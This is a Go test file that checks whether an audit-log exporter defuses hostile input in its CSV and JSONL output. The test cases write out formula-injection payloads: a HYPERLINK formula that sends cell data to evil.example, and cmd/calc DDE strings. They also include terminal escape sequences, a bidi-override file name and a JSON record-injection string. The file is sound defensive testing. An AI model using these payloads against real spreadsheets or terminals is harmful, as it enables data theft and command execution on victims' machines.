package export

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/alter-sidecar/alter/audit"
)

// spreadsheetRuns reports whether a spreadsheet would run cell as a
// formula: it starts with = + - @, or a tab or CR before one.
func spreadsheetRuns(cell string) bool {
	cell = strings.TrimLeft(cell, "\t\r")
	return cell != "" && strings.ContainsRune("=+-@", rune(cell[0]))
}

// semicolonCells splits an exported line the way a spreadsheet in a
// locale whose list separator is ';' does (Excel in most of Europe opens
// a .csv with ';'): quoted runs are kept whole, any other ';' splits.
func semicolonCells(line string) []string {
	var cells []string
	var cur strings.Builder
	quoted := false
	for i := 0; i < len(line); i++ {
		switch c := line[i]; {
		case c == '"':
			quoted = !quoted
		case c == ';' && !quoted:
			cells = append(cells, cur.String())
			cur.Reset()
		default:
			cur.WriteByte(c)
		}
	}
	return append(cells, cur.String())
}

// TestCSVAttackFormulas: client text that a spreadsheet would run comes
// out inert, whether the sheet splits on ',' (the CSV's own separator) or
// on ';' (another locale's): every cell a spreadsheet makes of the line
// is text. Quotes and newlines stay inside their one field.
func TestCSVAttackFormulas(t *testing.T) {
	for _, tc := range []struct{ name, v string }{
		{"equals", `=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{"plus", "+1+cmd|' /C calc'!A0"},
		{"minus", "-2+3"},
		{"at", "@SUM(1+1)"},
		{"tab first", "\t=1+1"},
		{"cr first", "\r=1+1"},
		{"newline first", "\n=1+1"},
		{"after a semicolon", "/v1/x;=cmd|' /C calc'!A0"},
		{"after a semicolon and space", "/v1/x; =1+1"},
		{"after a semicolon and quote", `/v1/x;"=1+1`},
		{"plus after a semicolon", "a;+1;-1;@x"},
		{"quote and newline", "a\"b\nc,d"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			w, err := NewWriter(&buf, FormatCSV)
			if err != nil {
				t.Fatal(err)
			}
			if err := w.Write(Row{Time: t0, Source: "local", Event: audit.EventGrantUse, Actor: tc.v, Path: tc.v, Target: tc.v}); err != nil {
				t.Fatal(err)
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(rows) != 2 || len(rows[1]) != len(Columns) {
				t.Fatalf("rows %q: want the header and one row of %d cells", rows, len(Columns))
			}
			for i, cell := range rows[1] {
				if spreadsheetRuns(cell) {
					t.Errorf("column %s = %q runs as a formula", Columns[i], cell)
				}
			}
			// The text is all there, behind the defusing quotes.
			if got := strings.ReplaceAll(rows[1][4], "'", ""); got != strings.ReplaceAll(escaped(tc.v), "'", "") {
				t.Errorf("actor = %q, want %q", rows[1][4], escaped(tc.v))
			}
			line := strings.SplitN(buf.String(), "\n", 2)[1]
			for _, cell := range semicolonCells(strings.TrimRight(line, "\n")) {
				if spreadsheetRuns(strings.TrimLeft(cell, " ")) {
					t.Errorf("split on ';', the line has a cell %q that runs as a formula: %q", cell, line)
				}
			}
		})
	}
}

// escaped is v as an exported cell shows it: control characters written
// out as escapes.
func escaped(v string) string { return audit.Sanitize(v, 1<<20) }

// TestCSVAttackControlCharacters: a record of the control plane's trail
// is what a sidecar token sent, so its strings can hold anything JSON
// can: a terminal escape, CR, NUL, C1 controls, a bidi override. The CSV
// (which alter audit export writes to a terminal as readily as to a file)
// holds none of them raw.
func TestCSVAttackControlCharacters(t *testing.T) {
	body := `{"ts":"2026-01-02T03:04:05Z","actor":"a\u001b]0;owned\u0007b","path":"/p\r\u0000q\u009b31m","host":"h\u202eexe.txt",` +
		`"target":"t\u2028u","detail":{"note":"n\u001b[2J"}}`
	row, err := Stored("app/1", "app/tok", audit.EventGrantUse, []byte(body))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	w, _ := NewWriter(&buf, FormatCSV)
	if err := w.Write(row); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, bad := range []string{"\x1b", "\x07", "\r", "\x00", "\u009b", "\u2028"} {
		if strings.Contains(out, bad) {
			t.Errorf("the CSV holds %q raw: %q", bad, out)
		}
	}
	if strings.Count(out, "\n") != 2 {
		t.Errorf("want two lines (header, row): %q", out)
	}
	if !strings.Contains(out, `a\x1b]0;owned\x07b`) {
		t.Errorf("the actor is not shown escaped: %q", out)
	}
}

// TestJSONLAttack: each record is one line of valid JSON whatever its
// strings hold, and invalid UTF-8 does not pass through raw.
func TestJSONLAttack(t *testing.T) {
	var buf bytes.Buffer
	w, _ := NewWriter(&buf, FormatJSONL)
	for _, v := range []string{"a\nb", "a\r\nb", "\xff\xfe", "\u2028\u2029", "x\"}\n{\"event\":\"grant_revoke\"", "\x1b[2J"} {
		if err := w.Write(Row{Time: t0, Event: audit.EventGrantUse, Actor: v, Path: v}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(&buf)
	n := 0
	for sc.Scan() {
		n++
		line := sc.Bytes()
		var m map[string]any
		if err := json.Unmarshal(line, &m); err != nil {
			t.Fatalf("line %d is not JSON: %q", n, line)
		}
		if m["event"] != audit.EventGrantUse {
			t.Fatalf("line %d: event %v", n, m["event"])
		}
		for _, c := range line {
			if c < 0x20 || c == 0xff || c == 0xfe {
				t.Fatalf("line %d holds byte %#x raw: %q", n, c, line)
			}
		}
	}
	if n != 6 {
		t.Fatalf("%d lines, want 6", n)
	}
}
